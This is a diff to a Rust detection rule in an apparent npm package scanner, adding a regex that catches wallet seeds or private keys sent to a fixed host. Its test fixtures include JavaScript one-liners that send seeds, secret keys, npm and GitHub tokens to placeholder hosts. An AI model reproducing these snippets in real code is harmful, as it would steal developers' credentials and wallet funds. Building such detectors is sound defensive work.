@@ -16,10 +16,12 @@ crate::declare_rule! {
     title: "reads publishing or cloud tokens and can send them",
     incident: "Shai-Hulud (2025) and Nx s1ngularity (2025) stole npm, GitHub and cloud tokens",
     case_file: "index.js",
-    flag: ["const q = (c) => fetch('https://rpc.example.net/queue', { method: 'POST', headers: { 'x-id': c } }); class K { constructor(k) { q(Buffer.from(k.secretKey).toString('base64')) } }",
+    flag: ["function check(seed) { fetch('https://api.example.net/check', { method: 'POST', headers: { 'ad-referral': String(seed) } }) }",
+           "const q = (c) => fetch('https://rpc.example.net/queue', { method: 'POST', headers: { 'x-id': c } }); class K { constructor(k) { q(Buffer.from(k.secretKey).toString('base64')) } }",
            "const t = process.env.NPM_TOKEN; const g = process.env.GITHUB_TOKEN; fetch(u, { method: 'POST', body: t + g })",
            "const tok = require('child_process').execSync('gh auth token').toString(); require('https').request(o).end(tok)"],
-    pass: ["return bs58.encode(Buffer.from(this._keypair.secretKey).toString('hex'))",
+    pass: ["fetch('https://rpc.example.net/', { method: 'POST', body: JSON.stringify({ method: 'getBalance', params: [publicKey] }) })",
+           "return bs58.encode(Buffer.from(this._keypair.secretKey).toString('hex'))",
            "const t = process.env.MY_APP_TOKEN; fetch(u, { headers: { authorization: t } })",
            "const t = process.env.NPM_TOKEN; console.log(t ? 'set' : 'unset')"],
 }
@@ -81,6 +83,21 @@ fn check(pkg: &Package, out: &mut Emitter) {
         let fixed_post = crate::regex!(
             r#"fetch\(\s*['"`]https?://[^'"`$]+['"`]\s*,\s*\{[^}]{0,200}method:\s*['"`]POST"#
         );
+        // A seed or private key put straight into the headers or body of a request to a fixed
+        // host (the xrpl.js 4.2.1 backdoor sent seeds in an `ad-referral` header).
+        let key_in_request = crate::regex!(
+            r#"fetch\(\s*['"`]https?://[^'"`$]+['"`]\s*,\s*\{[^;]{0,300}?\b(headers|body)\s*:\s*[^;]{0,200}?\b(seed|mnemonic|seedPhrase|secretKey|privateKey|private_key|secret_key)\b"#
+        );
+        if let Some(k) = key_in_request.find(&f.text) {
+            out.hit_sev(
+                Severity::Critical,
+                pkg,
+                f,
+                k.start() as u32,
+                "puts a wallet seed or private key into a request to a fixed host",
+            );
+            continue;
+        }
         if let (Some(k), true) = (key_out.find(&f.text), fixed_post.is_match(&f.text)) {
             out.hit_sev(
                 Severity::Critical,
